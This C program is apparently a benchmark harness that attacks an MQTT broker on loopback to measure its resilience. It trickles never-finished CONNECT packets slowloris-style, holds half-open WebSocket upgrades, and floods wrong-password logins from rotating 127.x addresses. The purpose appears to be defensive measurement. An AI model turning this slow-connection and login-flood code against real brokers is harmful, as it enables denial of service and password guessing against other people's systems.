/*
 * attacker: keeps sockets whose CONNECT never ends and half-open WebSocket upgrades, and tries passwords at a rate, from a number of
 * addresses of 127.0.0.0/8. In C, because it runs on the machine where the victim is measured: a real attacker has one of its own,
 * so what this one costs itself is to be as little as can be. It has the lowest priority for the same reason. Linux, one thread.
 *
 *     cc -O2 -o attacker attacker.c && ./attacker <port> <WebSocket port> <sockets of each kind> <logins a second> <addresses>
 *
 * Prints a line as soon as all is under way, one each second of how many logins were tried, answered, dropped and skipped because too
 * many were under way, and ends with its standard input.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

enum { EVENTS = 256, MOST_UNDER_WAY = 2000, TICK_NS = 1000000, TRICKLE_MS = 500, LARGEST_CONNECT = 64 };

/* What a socket is for. TIMER and INPUT are ours. */
typedef enum { LOGIN, SLOW, UPGRADE, TIMER, INPUT } kind;

typedef struct {
  kind kind;
  int fd;
  bool answered;
  int sent; /* bytes of a slow CONNECT */
} sock;

static int epoll, port, web_port, addresses;
static uint32_t next_address;
static struct { long logins, answered, dropped, skipped; } tried;
static long under_way;

static const char upgrade_head[] =
    "GET /mqtt HTTP/1.1\r\nHost: broker\r\nUpgrade: websocket\r\nSec-WebSocket-Pro";

/* A CONNECT of 3.1.1 with a wrong password. */
static int connect_packet(uint8_t *out, long number) {
  char id[16];
  int length = snprintf(id, sizeof id, "c%ld", number % 10000);
  static const uint8_t head[] = {0, 4, 'M', 'Q', 'T', 'T', 4, 0xC2, 0, 0};
  static const uint8_t tail[] = {0, 5, 'a', 'd', 'm', 'i', 'n', 0, 5, 'w', 'r', 'o', 'n', 'g'};
  int at = 0;
  out[at++] = 0x10;
  out[at++] = (uint8_t)(sizeof head + 2 + length + sizeof tail);
  memcpy(out + at, head, sizeof head), at += sizeof head;
  out[at++] = 0, out[at++] = (uint8_t)length;
  memcpy(out + at, id, length), at += length;
  memcpy(out + at, tail, sizeof tail), at += sizeof tail;
  return at;
}

/* From 127.0.1.0, 127.0.1.1 and so on in turn. */
static bool open_to(sock *socket_of, int to) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (fd < 0) return false;
  uint32_t number = next_address++ % addresses;
  int one = 1;
  setsockopt(fd, SOL_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
  struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7F000100 + number)};
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(to), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  bool ok = bind(fd, (void *)&from, sizeof from) == 0 &&
            (connect(fd, (void *)&address, sizeof address) == 0 || errno == EINPROGRESS);
  struct epoll_event event = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = socket_of};
  if (!ok || epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event) != 0) {
    close(fd);
    return false;
  }
  socket_of->fd = fd, socket_of->answered = false, socket_of->sent = 0;
  return true;
}

static void try_login(void) {
  tried.logins++;
  sock *one = calloc(1, sizeof *one);
  one->kind = LOGIN;
  if (!open_to(one, port)) {
    free(one);
    tried.dropped++;
    return;
  }
  uint8_t bytes[LARGEST_CONNECT];
  int length = connect_packet(bytes, tried.logins);
  /* On loopback the handshake is over when connect returns. What fails here is seen as an end. */
  (void)!send(one->fd, bytes, length, MSG_NOSIGNAL);
  under_way++;
}

static void begin(sock *one) {
  if (!open_to(one, one->kind == SLOW ? port : web_port)) one->fd = -1;
  else if (one->kind == UPGRADE) (void)!send(one->fd, upgrade_head, sizeof upgrade_head - 1, MSG_NOSIGNAL);
}

/* The next byte of each CONNECT that never ends; another socket for those that were ended. */
static void trickle(sock *all, int count) {
  uint8_t bytes[LARGEST_CONNECT];
  int length = connect_packet(bytes, 0);
  for (int i = 0; i < count; i++) {
    if (all[i].fd < 0) begin(&all[i]);
    else if (all[i].kind == SLOW && all[i].sent < length - 1)
      (void)!send(all[i].fd, bytes + all[i].sent++, 1, MSG_NOSIGNAL);
  }
}

static void on_ready(sock *one, uint32_t events) {
  char answer[64];
  ssize_t length;
  while ((length = recv(one->fd, answer, sizeof answer, 0)) > 0) one->answered = true;
  bool is_over = length == 0 || (errno != EAGAIN && errno != EWOULDBLOCK) || (events & (EPOLLERR | EPOLLHUP)) != 0;
  if (!is_over) return;
  close(one->fd);
  one->fd = -1;
  if (one->kind != LOGIN) return;
  under_way--;
  if (one->answered) tried.answered++;
  else tried.dropped++;
  free(one);
}

static int64_t now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000LL + t.tv_nsec;
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "attacker <port> <WebSocket port> <sockets> <logins a second> <addresses>\n");
    return 2;
  }
  port = atoi(argv[1]), web_port = atoi(argv[2]), addresses = atoi(argv[5]);
  int each = atoi(argv[3]);
  long per_second = atol(argv[4]);
  if (addresses < 1 || addresses > 60000) addresses = 1;
  setpriority(PRIO_PROCESS, 0, 19);
  epoll = epoll_create1(0);

  sock *kept = calloc(2 * each + 1, sizeof *kept);
  for (int i = 0; i < 2 * each; i++) kept[i].kind = i < each ? SLOW : UPGRADE, begin(&kept[i]);

  int timer = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK);
  struct itimerspec tick = {{0, TICK_NS}, {0, TICK_NS}};
  timerfd_settime(timer, 0, &tick, NULL);
  sock ours[] = {{.kind = TIMER, .fd = timer}, {.kind = INPUT, .fd = STDIN_FILENO}};
  for (int i = 0; i < 2; i++) {
    struct epoll_event event = {.events = EPOLLIN, .data.ptr = &ours[i]};
    epoll_ctl(epoll, EPOLL_CTL_ADD, ours[i].fd, &event);
  }
  puts("under way");
  fflush(stdout);

  int64_t started = now_ns(), trickled = started;
  long due = 0, seconds = 0;
  for (;;) {
    struct epoll_event events[EVENTS];
    int count = epoll_wait(epoll, events, EVENTS, -1);
    for (int i = 0; i < count; i++) {
      sock *one = events[i].data.ptr;
      if (one->kind == INPUT) {
        char byte[64];
        if (read(STDIN_FILENO, byte, sizeof byte) <= 0) return 0;
      } else if (one->kind == TIMER) {
        uint64_t ticks;
        (void)!read(timer, &ticks, sizeof ticks);
      } else on_ready(one, events[i].events);
    }
    int64_t now = now_ns();
    for (long wanted = (now - started) / 1000 * per_second / 1000000; due < wanted; due++) {
      if (under_way < MOST_UNDER_WAY) try_login();
      else tried.skipped++;
    }
    if (now - trickled > TRICKLE_MS * 1000000LL) trickled = now, trickle(kept, 2 * each);
    if ((now - started) / 1000000000LL > seconds) {
      printf("{\"seconds\":%ld,\"logins\":%ld,\"answered\":%ld,\"dropped\":%ld,\"skipped\":%ld}\n", ++seconds,
             tried.logins, tried.answered, tried.dropped, tried.skipped);
      fflush(stdout);
    }
  }
}
